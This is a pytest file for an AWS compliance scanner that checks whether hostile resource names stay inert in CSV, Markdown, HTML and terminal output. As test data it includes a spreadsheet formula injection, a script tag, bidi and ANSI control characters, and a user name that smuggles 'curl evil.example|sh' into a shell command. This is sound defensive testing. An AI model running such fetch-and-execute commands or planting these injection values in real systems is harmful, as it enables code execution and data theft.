"""Hostile strings from AWS (a security-group name, a tag, a user name) are inert in every output."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from rich.console import Console

from evidence_tracer.cli.output import print_summary
from evidence_tracer.models import Finding, ScanInfo, ScanResult, Severity, Status
from evidence_tracer.report import Format, render
from tests.checks.builders import ok, run, user, with_iam

HOSTILE = '=HYPERLINK("http://evil.example","x") <script>alert(1)</script> [/] [bold red]\u202eevil\nrow | x'


def _result() -> ScanResult:
    info = ScanInfo(
        "s1", datetime(2026, 11, 22, tzinfo=UTC), datetime(2026, 11, 22, tzinfo=UTC), "1", ("us-east-1",), "0.1.0"
    )
    finding = Finding(
        "ec2_sg_open_admin_ports", Status.FAIL, Severity.HIGH, ("CC6.6",), HOSTILE, "us-east-1", "1", HOSTILE, HOSTILE
    )
    return ScanResult(info, (finding,))


def test_csv_cells_never_start_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(render(_result(), Format.CSV))))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert rows[1][7].startswith("'=HYPERLINK")


def test_markdown_passes_no_raw_html_bidi_or_row_breaks() -> None:
    text = render(_result(), Format.MARKDOWN)
    assert "<script" not in text and "\u202e" not in text and "&lt;script&gt;" in text
    row = next(line for line in text.splitlines() if line.startswith("| fail"))
    assert row.count(" | ") == 6  # the pipe in the name is escaped; the newline did not end the row


def test_html_escapes_and_drops_bidi_controls() -> None:
    text = render(_result(), Format.HTML)
    assert "<script>alert" not in text and "\u202e" not in text and "&lt;script&gt;" in text


def test_rich_markup_in_names_is_printed_not_interpreted() -> None:
    out = io.StringIO()
    print_summary(Console(file=out, width=300, color_system=None), _result())
    assert "[/] [bold red]" in out.getvalue()


def test_suggested_shell_commands_quote_names_from_aws() -> None:
    name = "bob$(curl evil.example|sh)"
    report = ok((user(name, mfa=False),))
    [fail] = [f for f in run("iam_user_console_mfa", with_iam(credential_report=report)) if f.status is Status.FAIL]
    assert "--user-name 'bob$(curl evil.example|sh)'" in fail.remediation
    assert "--user-name bob$(" not in fail.remediation


def test_cli_tables_and_lines_print_foreign_text_inert(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from evidence_tracer.app.init import InitAnswers, create_workspace
    from evidence_tracer.cli.app import main

    hostile = "[/] [bold red]Evil\x1b[31m\u202e Co"
    create_workspace(tmp_path, InitAnswers(company=hostile, owner="jane@acme.io"))
    for argv in (["vendors", "add", hostile, "--purpose", hostile], ["vendors", "list"], ["status"]):
        with pytest.raises(SystemExit) as done:
            main([*argv, "-w", str(tmp_path)])
        assert done.value.code == 0
    out = capsys.readouterr().out
    assert out.count("[/] [bold red]Evil[31m Co") >= 3  # printed, not interpreted; ESC and bidi dropped
    assert "\x1b" not in out and "\u202e" not in out
